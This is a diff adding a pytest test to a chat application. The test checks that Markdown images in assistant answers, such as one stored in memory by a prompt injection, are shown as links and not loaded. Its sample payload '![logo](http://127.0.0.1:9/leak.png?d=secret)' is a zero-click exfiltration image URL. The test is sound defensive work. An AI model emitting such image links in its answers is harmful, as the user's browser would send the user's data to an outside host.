@@ -121,3 +121,19 @@ def test_the_picker_switches_the_conversation_model_only_when_the_user_picks(
     assert not at.exception, at.exception
     switched = services.chat.get_conversation(principal, conv.id)
     assert (switched.provider, switched.model) == ("openai", "gpt-4o-mini")
+
+
+def test_images_in_answers_are_not_loaded(app_settings, new_app) -> None:  # type: ignore[no-untyped-def]
+    """A Markdown image in an answer (here echoed back from a memory, as a prompt injection
+    could) would be fetched by the browser with no click: it is shown as a link instead."""
+    at, _ = open_chat(new_app, "chat.images@example.com")
+    leak = "![logo](http://127.0.0.1:9/leak.png?d=secret)"
+    at.chat_input(key="chat_input").set_value(f"remember that my logo is {leak}").run()
+    assert not at.exception, at.exception
+    at.chat_input(key="chat_input").set_value("what do you know about my logo").run()
+    assert not at.exception, at.exception
+    shown = [m.value for m in at.markdown if "leak.png" in m.value]
+    assert shown, [m.value for m in at.markdown]
+    assert all("!\u200b[logo](" in v and "![" not in v for v in shown), shown
+    titles = [b.label for b in at.button if "leak.png" in b.label]  # titled from the message
+    assert titles and all("![" not in t for t in titles), titles
